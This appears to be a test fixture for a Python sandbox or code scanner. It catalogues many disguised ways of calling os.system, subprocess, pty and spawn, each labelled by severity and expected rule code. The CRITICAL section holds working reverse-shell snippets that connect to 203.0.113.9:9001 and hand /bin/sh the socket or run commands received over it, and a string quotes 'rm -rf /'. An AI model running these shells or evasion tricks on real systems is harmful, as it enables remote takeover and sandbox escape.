#### renamed module and tuple: HIGH
import subprocess as helper
steps = ("a", helper.check_output)
steps[1](["ls", "-l"])  #! SBX1102
#### class attribute called through an instance: HIGH
import os
class Tools:
    launch = os.popen
    def go(self, line):
        return Tools.launch(line).read()  #! SBX1101
Tools().go("whoami")
#### keyword-only command: HIGH
from subprocess import Popen as P
P(args=["sh", "-c", "true"], shell=False)  #! SBX1102
#### default argument that is a shell: HIGH
import os
def call(line, using=os.system):
    return using(line)  #! SBX1101
call("date")
#### returned from a function with a branch: HIGH
import os
def choose(quiet):
    if quiet:
        return print
    return os.system
choose(False)("date")  #! SBX1101
#### nested partial: HIGH
import functools, subprocess
step = functools.partial(functools.partial(subprocess.call), ["id"])
step()  #! SBX1102
#### comprehension over functions: HIGH
import os
[f("date") for f in [os.system]]  #! SBX1101
#### walrus in a condition: HIGH
import os
if (go := getattr(os, "popen")) is not None:
    go("date")  #! SBX1101
#### star import: HIGH
from subprocess import *
run(["id"])  #! SBX1102
#### transit module: HIGH
import tempfile
tempfile._os.system("date")  #! SBX1101
#### private module: HIGH
import _posixsubprocess as low
low.fork_exec([b"/bin/true"], [b"/bin/true"], True)  #! SBX1102
#### spawn family: HIGH
import os
os.spawnlp(os.P_WAIT, "true", "true")  #! SBX1102
#### asyncio subprocess exec: HIGH
import asyncio
async def main():
    await asyncio.create_subprocess_exec("id")  #! SBX1102
asyncio.run(main())
#### pty: HIGH
import pty as terminal
terminal.spawn(["/bin/bash"])  #! SBX1102
#### fork: HIGH
import os
pid = os.fork()  #! SBX1103
#### decorator: HIGH
import os
@os.system
@(lambda cls: "date")
class Anything:
    pass
#### operator hook: HIGH
import os
class Runner:
    def __lshift__(self, line):
        return os.system(line)  #! SBX1101
Runner() << "date"
#### context manager: HIGH
import os
class Guard:
    def __enter__(self):
        os.system("date")  #! SBX1101
    def __exit__(self, *rest):
        return False
with Guard():
    pass
#### property: HIGH
import os
class Holder:
    @property
    def value(self):
        return os.popen("date")  #! SBX1101
Holder().value
#### exit handler: HIGH
import atexit, os
atexit.register(os.system, "date")
#### thread target by keyword: HIGH
import os
from threading import Thread
Thread(None, target=os.system, args=("date",)).start()
#### sorted key: HIGH
import os
sorted(["date"], key=os.system)
#### map object drained by a loop: HIGH
import os
for _ in map(os.popen, ["date"]):
    pass
#### reduce with a shell: HIGH
import functools, os
functools.reduce(lambda a, b: os.system(b), ["date", "id"])  #! SBX1101
#### function put in a dict by setdefault: HIGH
import os
table = {}
table.setdefault("x", os.system)
table["x"]("date")  #! SBX1101
#### platform popen: HIGH
import subprocess
subprocess.getoutput("date")  #! SBX1101
#### pip as a module: HIGH
import pip
pip.main(["install", "x"])  #! SBX1102
#### webbrowser command: HIGH
import webbrowser
webbrowser.get("sh -c id %s").open("x")
#### git clone by a library: HIGH
import git
git.Repo.clone_from("https://example.org/x.git", "/tmp/x")  #! SBX1102
#### word in a string: LOW
text = "never call os.system('rm -rf /') or subprocess.run"
print(text)
#### method named system: LOW
class Clock:
    def system(self, name):
        return name
Clock().system("utc")
#### dict with keys of functions: LOW
table = {"system": 1, "exec": 2, "eval": 3}
print(table["system"] + table["exec"])
#### subprocess constants and errors only: LOW
import subprocess
def guard(f):
    try:
        return f()
    except subprocess.CalledProcessError as error:
        return error.returncode
#### os.path only: LOW
import os
name = os.path.splitext(os.path.basename("/datasets/a.csv"))[0]
print(os.path.join("a", "b"), os.sep, os.linesep, name)
#### run method of an own class: LOW
class Engine:
    def run(self, command):
        return command
    def popen(self, x):
        return x
Engine().run(["ls"])
Engine().popen("ls")
#### a backtest that runs: LOW
import backtrader as bt
class S(bt.Strategy):
    def next(self):
        if not self.position:
            self.buy()
cerebro = bt.Cerebro()
cerebro.addstrategy(S)
cerebro.run()
#### joblib parallel: LOW
from joblib import Parallel, delayed
values = Parallel(n_jobs=2)(delayed(abs)(x) for x in [1, -2])
#### cpu count: LOW
import multiprocessing
workers = multiprocessing.cpu_count()
#### process pool: LOW
from concurrent.futures import ProcessPoolExecutor
def square(x):
    return x * x
if __name__ == "__main__":
    with ProcessPoolExecutor(2) as pool:
        print(sum(pool.map(square, range(4))))
#### threads: LOW
import threading
lock = threading.Lock()
def work():
    with lock:
        return 1
threading.Thread(target=work, daemon=True).start()
#### fork as a name: LOW
def fork(path):
    return path
fork("left")
#### sys.exit: LOW
import sys
sys.exit(0)
#### program whose streams are a connection: CRITICAL
import os, socket, subprocess
line = socket.socket()
line.connect(("203.0.113.9", 9001))  #! SBX1201
os.dup2(line.fileno(), 0)
os.dup2(line.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])  #! SBX1107
#### program that is handed a connection as stream: CRITICAL
import socket, subprocess
peer = socket.create_connection(("203.0.113.9", 9001))  #! SBX1201
subprocess.Popen(["sh"], stdin=peer.fileno(), stdout=peer.fileno())  #! SBX1107
#### shell command that came over the network: CRITICAL
import os, socket
peer = socket.create_connection(("203.0.113.9", 9001))  #! SBX1201
os.system(peer.recv(1024).decode())  #! SBX1107
#### stream copied to another, no network: LOW
import os, sys
os.dup2(sys.stdout.fileno(), sys.stderr.fileno())
